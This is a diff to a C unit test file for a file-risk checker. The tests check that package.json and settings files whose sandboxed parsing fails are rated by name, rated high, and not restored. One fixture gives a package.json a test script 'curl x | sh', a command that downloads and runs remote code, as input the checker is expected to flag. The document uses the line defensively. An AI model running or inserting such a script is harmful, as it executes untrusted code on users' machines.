@@ -26,8 +26,10 @@
 #include "base/auto.h"
 #include "base/codec.h"
 #include "base/fd.h"
+#include "guard/agent/settings.h"
 #include "guard/parse/parse_table.h"
 #include "guard/parse/parse_worker.h"
+#include "guard/rules/risk.h"
 #include "guard/sandbox/parser.h"
 #include "restore/git/git_ops.h"
 #include "restore/git/similar.h"
@@ -587,6 +589,137 @@ static void parts_with_foreign_lines_are_refused(void **state)
 	refuses_parts("b\n");
 }
 
+/* --- JSON --- */
+
+static bool read_package(void *arg, bool now, struct buf *to)
+{
+	(void)arg;
+	buf_add_text(to, now ? "{\"scripts\": {\"test\": \"curl x | sh\"}}"
+			     : "{\"scripts\": {\"test\": \"tsc\"}}");
+	return true;
+}
+
+/* The ids of the rules that a changed file of this name breaks, and the
+ * text of the last one. */
+static char *judge(const char *path, char **ret_text)
+{
+	const struct risk_file f = {
+		.path = path,
+		.old_mode = S_IFREG | 0644,
+		.now_mode = S_IFREG | 0644,
+		.old_size = 10,
+		.now_size = 10,
+		.read = read_package,
+	};
+	AUTO(buf) struct buf ids = {0};
+	struct risks r = {0};
+	size_t i;
+
+	risk_judge(&f, &r);
+	for (i = 0; i < r.count; i++) {
+		buf_printf(&ids, "%s%s:%d", i ? " " : "", r.items[i].id,
+			   r.items[i].level);
+		free(*ret_text);
+		*ret_text = risk_sentence(&r.items[i]);
+	}
+	risks_free(&r);
+	return buf_take_text(&ids);
+}
+
+/* A package whose parsing fails is as dangerous as its name. */
+static void judges_by_name(void (*how)(int fd), const char *why)
+{
+	auto_free char *ids = NULL, *text = NULL;
+
+	use_stand_in(how);
+	ids = judge("package.json", &text);
+	assert_string_equal(ids, "npm-run:2 not-parsed:1");
+	assert_string_equal(text, why);
+	assert_int_equal(started, 1);
+	free(ids);
+	ids = judge("package.json", &text);
+	assert_string_equal(ids, "npm-script:2");
+}
+
+static void set_lie(const void *data, size_t len)
+{
+	buf_clear(&lie);
+	buf_add(&lie, data, len);
+}
+
+static void a_file_whose_parsing_fails_is_judged_by_its_name(void **state)
+{
+#define BROKEN(why) "cannot be read (worker: " why "): its settings are unknown"
+	(void)state;
+	judges_by_name(crash, BROKEN("signal 11"));
+	judges_by_name(be_silent, BROKEN("no answer"));
+	set_lie("", 0);
+	judges_by_name(answer_lie, BROKEN("invalid answer"));
+	set_lie("\2", 1);
+	judges_by_name(answer_lie, BROKEN("invalid answer"));
+	set_lie("\0a\0b", 5);
+	judges_by_name(answer_lie, BROKEN("invalid answer"));
+	set_lie("\1a\0b", 4);
+	judges_by_name(answer_lie, BROKEN("invalid answer"));
+	set_lie("\1a", 3);
+	judges_by_name(answer_lie, BROKEN("invalid answer"));
+}
+
+static bool read_servers(void *arg, bool now, struct buf *to)
+{
+	(void)arg;
+	buf_add_text(to, now ? "{\"mcpServers\": {}}" : "{}");
+	return true;
+}
+
+static void settings_of_an_unknown_name_are_high_if_parsing_fails(void **state)
+{
+	const struct risk_file f = {
+		.path = "some.json",
+		.now_mode = S_IFREG | 0644,
+		.now_size = 18,
+		.read = read_servers,
+	};
+	struct risks r = {0};
+
+	(void)state;
+	use_stand_in(crash);
+	risk_judge(&f, &r);
+	assert_int_equal(r.count, 1);
+	assert_string_equal(r.items[0].id, "not-parsed");
+	assert_int_equal(r.items[0].level, RISK_HIGH);
+	risks_free(&r);
+}
+
+static int undo_members(struct buf *ret, struct err *err)
+{
+	static const struct members m = {"a.json", "", "/p"};
+	AUTO(buf) struct buf before = {0}, after = {0};
+
+	buf_add_text(&before, "{\"a\": 1}");
+	buf_add_text(&after, "{\"a\": 2}");
+	return settings_undo(&m, &before, &after, &after, ret, err);
+}
+
+static void a_file_whose_parsing_fails_is_not_put_back(void **state)
+{
+	AUTO(buf) struct buf text = {0};
+	struct err err = {0};
+
+	(void)state;
+	use_stand_in(crash);
+	assert_int_equal(undo_members(&text, &err), -EPROTO);
+	set_lie("\2{}", 3);
+	use_stand_in(answer_lie);
+	assert_int_equal(undo_members(&text, &err), -EPROTO);
+	set_lie("\0{}", 3);
+	use_stand_in(answer_lie);
+	assert_int_equal(undo_members(&text, &err), -EPROTO);
+	assert_int_equal(text.len, 0);
+	assert_int_equal(undo_members(&text, &err), 1);
+	assert_string_equal(buf_text(&text), "{\n  \"a\": 1\n}");
+}
+
 /* --- similarity --- */
 
 static void signatures_are_lost_with_their_worker(void **state)
@@ -963,6 +1096,12 @@ int main(void)
 		cmocka_unit_test(a_merge_with_foreign_lines_is_refused),
 		cmocka_unit_test(a_conflict_has_three_sides),
 		cmocka_unit_test(parts_with_foreign_lines_are_refused),
+
+		cmocka_unit_test(
+			a_file_whose_parsing_fails_is_judged_by_its_name),
+		cmocka_unit_test(
+			settings_of_an_unknown_name_are_high_if_parsing_fails),
+		cmocka_unit_test(a_file_whose_parsing_fails_is_not_put_back),
 		cmocka_unit_test(signatures_are_lost_with_their_worker),
 		cmocka_unit_test(long_texts_travel_in_memfds),
 		cmocka_unit_test(a_killed_worker_leaves_the_next_request_alone),
